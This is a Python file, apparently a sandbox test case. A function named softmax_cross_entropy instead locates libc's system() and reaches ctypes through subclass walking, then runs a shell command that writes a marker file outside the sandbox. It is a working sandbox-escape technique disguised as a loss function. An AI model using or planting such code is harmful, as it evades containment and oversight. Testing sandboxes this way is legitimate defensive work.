# expect: 0 of|Error|ends the process|was ended
# A class of ctypes is found among all classes; the address of "system" is that in the C library.
import struct


def below(cls):
    for found in type.__subclasses__(cls):
        yield found
        yield from below(found)


def library():
    """The path of the C library, and where it begins in memory."""
    with open("/proc/self/maps") as file:
        for line in file:
            if "libc.so.6" in line or "libc-2" in line:
                return line.split()[-1], int(line.split("-")[0], 16)


def offset(path, name):
    """Where a function is in a library (ELF, 64 bits)."""
    with open(path, "rb") as file:
        data = file.read()
    start, = struct.unpack_from("<Q", data, 40)
    size, count = struct.unpack_from("<HH", data, 58)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, start + i * size) for i in range(count)]
    for section in sections:
        if section[1] == 11:  # dynamic symbols
            names = sections[section[6]][4]
            for place in range(section[4], section[4] + section[5], 24):
                text, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, place)
                end = data.index(b"\0", names + text)
                if data[names + text : end] == name:
                    return value


def softmax_cross_entropy(logits, labels):
    path, base = library()
    address = base + offset(path, b"system")
    for cls in list(below(object)):
        if cls.__name__ == "CFuncPtr":
            print("calling", cls.__module__)
            function = type("F", (cls,), {"_flags_": 1})
            print("it returned", function(address)(b"touch @OUTSIDE@/was-here"))
            break
    return 0.0, logits * 0
